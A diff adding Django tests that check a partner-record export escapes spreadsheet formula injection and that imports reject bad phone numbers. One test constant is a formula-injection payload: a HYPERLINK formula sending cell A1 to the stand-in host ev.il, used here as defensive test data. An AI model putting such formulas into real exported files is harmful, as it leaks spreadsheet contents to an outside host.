@@ -363,3 +363,34 @@ def test_csv_export_round_trip_updates_the_partners(staff_client, register):
     assert partner_a.phone == "+7 343 000-00-99"
     assert sorted(partner_a.specialties.values_list("code", flat=True)) == ["15.02.16", "22.02.06"]
     assert set(Partner.objects.values_list("status", flat=True)) == {"active", "prospect", "ended"}
+
+
+# --- Formula injection and phone format (issue 13) ------------------------------------------
+
+PLANTED = '=HYPERLINK("http://ev.il/?"&A1,"call")'
+
+
+def test_exports_keep_planted_formulas_as_text_and_import_back_unchanged(staff_client, register):
+    partner_a, _partner_b = register
+    Partner.objects.filter(pk=partner_a.pk).update(name=PLANTED, industry="@SUM(A1)")
+    response = staff_client.get(reverse("partners:export", args=["xlsx"]))
+    rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows())
+    cells = {cell.value: cell for row in rows[1:] for cell in row if isinstance(cell.value, str)}
+    assert PLANTED not in cells and "@SUM(A1)" not in cells
+    assert cells["'" + PLANTED].data_type == "s"
+    assert "'+7 343 000-00-01" in cells  # a phone starting with + is neutralised too
+
+    text = staff_client.get(reverse("partners:export", args=["csv"])).content.decode("utf-8-sig")
+    line = next(line for line in text.splitlines() if "HYPERLINK" in line)
+    assert line.startswith("\"'=HYPERLINK") and ";'@SUM(A1);" in line and ";'+7 343 000-00-01;" in line
+
+    upload_and_confirm(staff_client, SimpleUploadedFile("partners.csv", text.encode("utf-8-sig")))
+    partner_a.refresh_from_db()
+    assert (partner_a.name, partner_a.industry, partner_a.phone) == (PLANTED, "@SUM(A1)", "+7 343 000-00-01")
+
+
+def test_imported_phone_that_is_not_a_phone_number_is_a_row_error(staff_client):
+    uploaded = csv_file([partner_row(1, phone=PLANTED, specialties=None)], delimiter=";", encoding="utf-8")
+    partner_import = upload(staff_client, uploaded).context["partner_import"]
+    assert [error["line"] for error in partner_import.errors] == [2]
+    assert not Partner.objects.exists()
